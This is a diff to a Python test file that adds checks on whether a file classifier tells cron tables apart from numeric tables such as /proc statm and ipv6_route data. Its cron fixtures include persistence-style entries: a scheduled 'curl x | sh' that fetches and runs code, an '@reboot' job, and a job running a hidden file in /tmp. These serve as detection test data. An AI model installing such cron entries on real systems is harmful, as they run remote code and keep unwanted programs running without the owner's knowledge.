@@ -229,6 +229,27 @@ def test_a_line_beyond_the_limit_is_a_problem_that_keeps_its_beginning():
     assert "5000 bytes" in next(row["problem"] for row in rows if row["problem"])
 
 
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("net/ipv6_route", b"0000000000000000000000000000 00 000000000000000000000000000000 00 "
+         b"00000000000000000000000000000000 ffffffff 00000001 00000000 00200200       lo\n"),
+        ("732/statm", b"732 472 442 6 0 89 0\n"),
+        ("2/statm", b"0 0 0 0 0 0 0\n"),
+        ("counts.txt", b"1 2 3 4 5 apples\n2 3 4 5 6 pears\n"),
+    ],
+)  # fmt: skip
+def test_tables_of_numbers_are_no_cron_tables(name, data):
+    assert recognised(data, name) != "cron"
+
+
+@pytest.mark.parametrize(
+    "data", [b"*/5 0-23/2 1,15 * mon-fri /tmp/.x\n", b"0 4 * * 7 curl x | sh\n", b"@reboot /x\n"]
+)
+def test_cron_tables_of_any_name_are_known(data):
+    assert recognised(data, "var/spool/eve") == "cron"
+
+
 def test_odd_bytes_survive_in_raw():
     rows = read("shell_history", b"echo \xff\xfe\x00\n", ".bash_history")
     assert rows[0]["raw"] == b"echo \xff\xfe\x00"
